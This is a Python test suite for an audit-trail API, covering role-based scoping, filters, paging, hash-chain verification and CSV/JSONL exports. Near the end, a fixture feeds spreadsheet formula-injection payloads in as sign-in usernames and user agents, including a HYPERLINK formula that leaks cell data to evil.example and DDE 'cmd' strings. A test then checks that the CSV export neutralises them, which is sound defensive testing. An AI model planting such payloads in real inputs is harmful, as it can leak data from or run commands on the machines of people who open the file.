import csv
import io
import json
import re

import pytest
from django.core.cache import cache
from django.db import transaction
from rest_framework.test import APIClient

from accounts.roles import Role
from audit import Target, chain
from audit.actions import Action
from audit.context import AuditContext
from audit.services import record_event, seal_events
from tests.audit.records import stored_records

ALL = ["carol", "idn-db", "pay request", "Payments"]  # newest first


@pytest.fixture
def trail(payments_team, identity_team, requester, custodian):
    """Four events: a payments team edit, a payments change request, an identity key's drift
    and a sign-in (no team)."""
    events = []
    for ctx, action, target, team in [
        (AuditContext.system("system"), Action.TEAM_UPDATED, payments_team, None),
        (
            AuditContext(actor=requester),
            Action.REQUEST_SUBMITTED,
            Target("approvals.changerequest", "11", "pay request"),
            payments_team,
        ),
        (
            AuditContext.worker(task_id="t-1"),
            Action.KEY_DRIFT_DETECTED,
            Target("keys.managedkey", "idn-db", "idn-db"),
            identity_team,
        ),
        (AuditContext(actor=custodian), Action.AUTH_LOGIN, custodian, None),
    ]:
        with transaction.atomic():
            events.append(record_event(ctx, action, target=target, team=team))
    seal_events()
    for event in events:
        event.refresh_from_db()
    return events


@pytest.mark.parametrize(
    ("_case", "role", "names"),
    [
        ("auditor sees all", Role.AUDITOR, ALL),
        ("admin sees all", Role.ADMIN, ALL),
        ("requester sees own team", Role.REQUESTER, ["pay request", "Payments"]),
        ("custodian sees requests and keys", Role.CUSTODIAN, ["idn-db", "pay request"]),
        ("outsider sees nothing", "outsider", []),
    ],
)
def test_event_list_is_scoped_by_role(_case, role, names, trail, user_for_role, api_client_for):
    # when
    response = api_client_for(user_for_role(role)).get("/api/v1/audit/events/")
    # then
    assert response.status_code == 200
    assert [event["target_name"] for event in response.json()["results"]] == names


@pytest.mark.parametrize(
    ("_case", "query", "names"),
    [
        ("actor username", {"actor": "alice"}, ["pay request"]),
        ("system actor", {"actor": "worker"}, ["idn-db"]),
        ("exact action", {"action": "request.submitted"}, ["pay request"]),
        ("action is exact", {"action": "request."}, []),
        ("action prefix", {"action_prefix": "auth."}, ["carol"]),
        ("team", {"team": "payments"}, ["pay request", "Payments"]),
        ("target type", {"target_type": "keys.managedkey"}, ["idn-db"]),
        ("target id", {"target_id": "11"}, ["pay request"]),
        ("target name", {"target_name": "Payments"}, ["Payments"]),
        ("combined", {"actor": "alice", "team": "identity"}, []),
    ],
)
def test_event_list_filters(_case, query, names, trail, auditor, api_client_for):
    # when
    response = api_client_for(auditor).get("/api/v1/audit/events/", query)
    # then
    assert response.status_code == 200
    assert [event["target_name"] for event in response.json()["results"]] == names


def test_event_list_filters_by_time_range(trail, auditor, api_client_for):
    # given: since is inclusive, until exclusive
    query = {"since": trail[1].occurred_at.isoformat(), "until": trail[3].occurred_at.isoformat()}
    # when
    response = api_client_for(auditor).get("/api/v1/audit/events/", query)
    # then
    assert [event["sequence"] for event in response.json()["results"]] == [3, 2]


def test_event_list_refuses_malformed_time(trail, auditor, api_client_for):
    # when
    response = api_client_for(auditor).get("/api/v1/audit/events/", {"since": "last tuesday"})
    # then
    assert response.status_code == 400
    assert response.json() == {
        "detail": "The input is not valid.",
        "errors": {"since": ["Enter a valid date/time."]},
    }


def test_event_list_pages_with_a_cursor(trail, auditor, api_client_for):
    # given
    client = api_client_for(auditor)
    # when
    first = client.get("/api/v1/audit/events/", {"page_size": 3}).json()
    second = client.get(first["next"]).json()
    # then
    assert [event["sequence"] for event in first["results"]] == [4, 3, 2]
    assert [event["sequence"] for event in second["results"]] == [1]
    assert (first["previous"], second["next"]) == (None, None)


def test_event_shows_every_field_including_hashes(trail, requester, api_client_for):
    # given
    event = trail[1]
    # when
    response = api_client_for(requester).get(f"/api/v1/audit/events/{event.sequence}/")
    # then
    assert response.status_code == 200
    assert response.json() == {
        "sequence": 2,
        "occurred_at": event.occurred_at.isoformat().replace("+00:00", "Z"),
        "actor": requester.pk,
        "actor_label": "alice",
        "actor_type": "user",
        "action": "request.submitted",
        "target_type": "approvals.changerequest",
        "target_id": "11",
        "target_name": "pay request",
        "team": event.team_id,
        "team_slug": "payments",
        "before": None,
        "after": None,
        "request_id": "",
        "task_id": "",
        "hsm_request_id": "",
        "client_ip": "",
        "user_agent": "",
        "prev_hash": trail[0].hash,
        "hash": event.hash,
    }


def test_event_outside_scope_is_not_found(trail, requester, api_client_for):
    # when: event 3 belongs to the identity team
    response = api_client_for(requester).get("/api/v1/audit/events/3/")
    # then
    assert response.status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/audit/events/",
        "/api/v1/audit/events/1/",
        "/api/v1/audit/verify/",
        "/api/v1/audit/export.csv",
        "/api/v1/audit/export.jsonl",
    ],
)
def test_audit_endpoints_refuse_anonymous(path, trail, anonymous_client):
    # when
    response = anonymous_client.get(path)
    # then
    assert response.status_code == 401
    assert response["WWW-Authenticate"] == "Token"


@pytest.mark.parametrize(("_case", "role"), [("auditor", Role.AUDITOR), ("admin", Role.ADMIN)])
def test_verify_answers_auditors_and_admins(
    _case, role, trail, verify_now, user_for_role, api_client_for
):
    # given
    run = verify_now()
    # when
    response = api_client_for(user_for_role(role)).get("/api/v1/audit/verify/")
    # then
    assert response.status_code == 200
    assert response.json() == {
        "id": str(run.pk),
        "status": "ok",
        "trigger": "schedule",
        "started_by": None,
        "full": False,
        "started_at": run.started_at.isoformat().replace("+00:00", "Z"),
        "finished_at": run.finished_at.isoformat().replace("+00:00", "Z"),
        "heartbeat_at": run.heartbeat_at.isoformat().replace("+00:00", "Z"),
        "anchor": "genesis",
        "from_sequence": 0,
        "to_sequence": 4,
        "events_checked": 4,
        "head_hash": trail[-1].hash,
        "first_broken": None,
        "unsealed": {"count": 0, "oldest_age_seconds": None},
        "error": "",
    }


@pytest.mark.parametrize(
    ("_case", "role"),
    [("requester", Role.REQUESTER), ("custodian", Role.CUSTODIAN), ("outsider", "outsider")],
)
def test_verify_refuses_other_roles(_case, role, trail, verify_now, user_for_role, api_client_for):
    # given
    verify_now()
    # when
    response = api_client_for(user_for_role(role)).get("/api/v1/audit/verify/")
    # then
    assert response.status_code == 403
    assert response.json() == {"detail": "Only auditors and admins may verify the audit trail."}


def test_jsonl_export_reverifies_offline(trail, auditor, api_client_for):
    # when
    response = api_client_for(auditor).get("/api/v1/audit/export.jsonl")
    # then
    assert response.status_code == 200
    assert response.streaming is True
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="keywarden-audit-\d{8}T\d{6}Z\.jsonl"',
        response["Content-Disposition"],
    )
    records = [json.loads(line) for line in _body(response).splitlines()]
    assert records == stored_records()
    assert chain.verify_records(records).valid is True


def test_csv_export_matches_the_database(trail, auditor, api_client_for):
    # when
    response = api_client_for(auditor).get("/api/v1/audit/export.csv", HTTP_ACCEPT="text/csv")
    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="keywarden-audit-\d{8}T\d{6}Z\.csv"',
        response["Content-Disposition"],
    )
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert [_typed(row) for row in rows] == stored_records()


def test_export_is_scoped_and_filtered_like_the_list(trail, requester, api_client_for):
    # when
    response = api_client_for(requester).get(
        "/api/v1/audit/export.jsonl", {"action_prefix": "request."}
    )
    # then
    records = [json.loads(line) for line in _body(response).splitlines()]
    assert [record["target_name"] for record in records] == ["pay request"]
    assert chain.verify_records(records, complete=False).valid is True


def test_export_refuses_malformed_filter_as_json(trail, auditor, api_client_for):
    # when
    response = api_client_for(auditor).get(
        "/api/v1/audit/export.csv", {"until": "soon"}, HTTP_ACCEPT="text/csv"
    )
    # then
    assert response.status_code == 400
    assert response.json() == {
        "detail": "The input is not valid.",
        "errors": {"until": ["Enter a valid date/time."]},
    }


def test_schema_documents_the_audit_endpoints(auditor, api_client_for):
    # when
    paths = api_client_for(auditor).get("/api/schema/", {"format": "json"}).json()["paths"]
    # then
    assert sorted(path for path in paths if path.startswith("/api/v1/audit/")) == [
        "/api/v1/audit/events/",
        "/api/v1/audit/events/{sequence}/",
        "/api/v1/audit/export.csv",
        "/api/v1/audit/export.jsonl",
        "/api/v1/audit/verify/",
    ]
    assert "text/csv" in paths["/api/v1/audit/export.csv"]["get"]["responses"]["200"]["content"]
    verify = paths["/api/v1/audit/verify/"]
    assert {"200", "403", "404"} <= set(verify["get"]["responses"])
    assert {"202", "403", "409"} <= set(verify["post"]["responses"])
    assert verify["post"]["requestBody"]["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/VerificationInput"
    }


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_SIGN_INS = [  # (username, user agent), as a guesser sends them
    ('=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("@admin", "\t=1+1"),
    ("+alice", "\r=1+1"),
]


@pytest.fixture
def hostile_trail(db):
    """Failed sign-ins through the token endpoint, each from its own address (no lockout)."""
    cache.clear()  # the endpoint's throttles
    client = APIClient()
    for number, (username, user_agent) in enumerate(HOSTILE_SIGN_INS, start=1):
        response = client.post(
            "/api/v1/auth/token/",
            {"username": username, "password": "wrong"},
            format="json",
            REMOTE_ADDR=f"192.0.2.{number}",
            HTTP_USER_AGENT=user_agent,
        )
        assert response.status_code == 401
    cache.clear()
    seal_events()


def test_csv_export_neutralises_formulas_from_usernames_and_user_agents(
    hostile_trail, auditor, api_client_for
):
    # when
    response = api_client_for(auditor).get("/api/v1/audit/export.csv", HTTP_ACCEPT="text/csv")
    # then: no cell a spreadsheet would run, and each hostile value is there behind a quote
    rows = list(csv.reader(io.StringIO(_body(response))))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
    by_column = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [(row["target_name"], row["user_agent"]) for row in by_column] == [
        ("'" + username.replace("|", "\\|"), "'" + user_agent.replace("|", "\\|"))
        for username, user_agent in HOSTILE_SIGN_INS
    ]


def test_jsonl_export_keeps_hostile_values_exact(hostile_trail, auditor, api_client_for):
    # when
    response = api_client_for(auditor).get("/api/v1/audit/export.jsonl")
    # then
    records = [json.loads(line) for line in _body(response).splitlines()]
    assert [(r["target_name"], r["user_agent"]) for r in records] == HOSTILE_SIGN_INS
    assert chain.verify_records(records).valid is True


def _body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def _typed(row: dict) -> dict:
    """A CSV row back in canonical types: ints, nulls for empty id cells, parsed JSON."""
    typed = dict(row)
    typed["sequence"] = int(row["sequence"])
    for name in ("actor_id", "team_id"):
        typed[name] = int(row[name]) if row[name] else None
    for name in ("before", "after"):
        typed[name] = json.loads(row[name]) if row[name] else None
    return typed
